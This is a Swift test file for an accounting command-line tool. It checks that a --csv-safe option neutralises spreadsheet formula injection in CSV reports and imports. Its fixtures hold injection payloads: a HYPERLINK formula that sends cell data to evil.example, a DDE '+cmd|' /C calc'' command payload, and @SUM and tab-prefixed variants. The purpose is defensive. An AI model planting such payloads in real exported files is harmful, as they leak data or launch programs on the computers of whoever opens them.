import Testing
import TrackCLI
import TrackSyntax
import TrackTestSupport

/// The class "CSV formula injection": journal text that a spreadsheet would
/// run (`=HYPERLINK(…)`, `@SUM(…)`, `+`, `-`, a leading tab) goes out of
/// every CSV as hledger writes it by default, and with `--csv-safe` no field
/// of any CSV starts a formula.
@Suite struct CSVFormulaInjectionTests {
    static let journal = """
        commodity $1,000.00

        2026-01-05 =HYPERLINK("http://evil.example/?"&A1,"Refund")
            @SUM(1+1):food       $10.00
            assets:cash

        2026-02-06 +cmd|' /C calc'!A0 | -2+3
            assets:cash       $100.00
            income:-job

        2026-02-07 (=1) Shop  ; note:=2
            expenses:food     $5.00
            assets:cash

        """

    static let reports: [[String]] = [
        ["register", "-O", "csv"], ["register", "-M", "-O", "csv"], ["balance", "-O", "csv"], ["balance", "-M", "-O", "csv"],
        ["accounts", "-O", "csv"], ["income-statement", "-O", "csv"], ["balance-sheet", "-O", "csv"],
        ["report", "monthly", "-O", "csv"], ["report", "categories", "-O", "csv"], ["report", "required-income", "-O", "csv"],
        ["overview", "-O", "csv"], ["export"], ["export", "-O", "csv"],
    ]

    static func run(_ arguments: [String]) -> CLIHarness.Result {
        CLIHarness.run(["-f", "main.journal"] + arguments, files: ["main.journal": journal])
    }

    /// Every field of `csv` (track quotes each one).
    static func fields(_ csv: String) -> [String] {
        var fields: [String] = []
        var field = ""
        var quoted = false
        var previousQuote = false
        for character in csv {
            if quoted {
                if character == "\"" { quoted = false; previousQuote = true } else { field.append(character) }
                continue
            }
            if character == "\"" {
                if previousQuote { field.append("\"") }
                quoted = true
            } else if character == "," || character == "\n" {
                fields.append(field)
                field = ""
            } else {
                field.append(character)
            }
            previousQuote = false
        }
        return fields
    }

    static func startsFormula(_ field: String) -> Bool {
        guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return false }
        return !field.dropFirst().allSatisfy { $0.isNumber || $0 == "." || $0 == "," } || field.count == 1
    }

    @Test(arguments: reports)
    func noFieldStartsAFormulaWithCSVSafe(_ arguments: [String]) {
        let result = Self.run(arguments + ["--csv-safe"])
        #expect(result.status == 0, "\(result.stderr)")
        let fields = Self.fields(result.stdout)
        #expect(!fields.isEmpty)
        #expect(fields.filter(Self.startsFormula) == [], "\(arguments)")
    }

    @Test(arguments: reports)
    func defaultKeepsHledgersBytes(_ arguments: [String]) {
        let plain = Self.run(arguments)
        let guarded = Self.run(arguments + ["--csv-safe"])
        // The same fields, but for the marks `--csv-safe` adds.
        #expect(Self.fields(plain.stdout) == Self.fields(guarded.stdout).map { $0.hasPrefix("'") ? String($0.dropFirst()) : $0 })
    }

    @Test func theDescriptionGoesOutRawByDefault() {
        #expect(Self.run(["export"]).stdout.contains("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Refund\"\")\""))
    }

    @Test func helpSaysSo() {
        #expect(CLIHarness.run(["register", "--help"]).stdout.contains("--csv-safe"))
    }

    /// A bank that protects a formula with a leading tab keeps its
    /// protection through import's trimming: the tab becomes `'`.
    @Test func importNeverTrimsAProtectingCharacter() throws {
        let dir = TemporaryDirectory()
        dir.write("track.journal", "")
        dir.write("bank.rules", "skip 1\nfields date, description, amount\naccount1 Assets:Bank\ncurrency $\n")
        dir.write("bank.csv", "date,description,amount\n2026-11-04,\"\t=1+1\",-3.50\n2026-11-05,\" @SUM(A1)\",-1\n2026-11-06,\" -plain\",-1\n")
        let result = CLIHarness.run(["-f", dir.path + "/track.journal", "import", dir.path + "/bank.csv", "--rules", dir.path + "/bank.rules"])
        #expect(result.status == 0, "\(result.stderr)")
        let text = try #require(dir.read("track.journal"))
        #expect(text.contains("2026-11-04 '=1+1  ;"))
        #expect(text.contains("2026-11-05 '@SUM(A1)  ;"))
        #expect(text.contains("2026-11-06 '-plain  ;"))
        let again = CLIHarness.run(["-f", dir.path + "/track.journal", "import", dir.path + "/bank.csv", "--rules", dir.path + "/bank.rules"])
        #expect(again.stderr.contains("already"), "the fingerprints are the records' own")
    }
}
